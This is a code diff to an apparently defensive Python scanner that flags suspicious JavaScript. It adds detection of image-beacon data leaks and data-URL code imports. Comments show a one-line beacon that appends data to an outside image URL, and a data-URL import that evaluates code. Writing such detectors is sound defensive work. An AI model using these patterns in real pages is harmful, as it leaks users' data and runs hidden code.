@@ -15,6 +15,7 @@ from .auth_gates import gates, possible as compare_possible  # noqa: F401 (the e
 from .js_calls import arguments, unbound
 from .js_env_set import ENV_SET, env_sets
 from .js_function_ctor import MARKS as FUNCTION_MARKS
+from .js_dom import SRC_SET, beacon_sets
 from .js_imports import IMPORT_CALL, url_code_calls
 from .js_options import TLS_OPTIONS, option_fields
 from .js_scopes import enclosing_function
@@ -29,12 +30,13 @@ MAX_CANDIDATES = 2_000
 
 class _Gate:
     """A gate beside the words: the Function constructor reached through `.constructor`, and code imported from a
-    data:/blob: URL (`import(` in a file that writes `data:` or `createObjectURL`)."""
+    data:/blob: URL (`import(` in a file that writes `data:` or `createObjectURL`), an image's or element's `.src` set."""
 
     @staticmethod
     def search(source: bytes):
         return FUNCTION_MARKS.search(source) or (
-            (b"data:" in source or b"createObjectURL" in source) and IMPORT_CALL.search(source))
+            (b"data:" in source or b"createObjectURL" in source) and IMPORT_CALL.search(source)) or (
+            b"Image" in source or b"createElement" in source) and SRC_SET.search(source)
 
 
 DYNAMIC_CALLS = _Gate()
@@ -133,6 +135,8 @@ def facts(source: bytes, tree, wanted, deadline: Budget | None) -> Facts:
                               line=node.start_point[0] + 1,
                               end_line=node.end_point[0] + 1, column=node.start_point[1] + 1,
                               scope=-1 if scope is None else scope.start_byte, via=callee.via, receiver=receiver))
+    if wanted.wants("Image().src") and b".src" in source:  # new Image().src = "https://x/p.gif?d=" + data
+        out.calls.extend(beacon_sets(values, source))
     if wanted.wants("eval") and b"import" in source:  # import("data:text/javascript," + code): eval of code
         out.calls.extend(url_code_calls(values, source))
     out.calls.extend(_through_callers(values, out.calls, source))
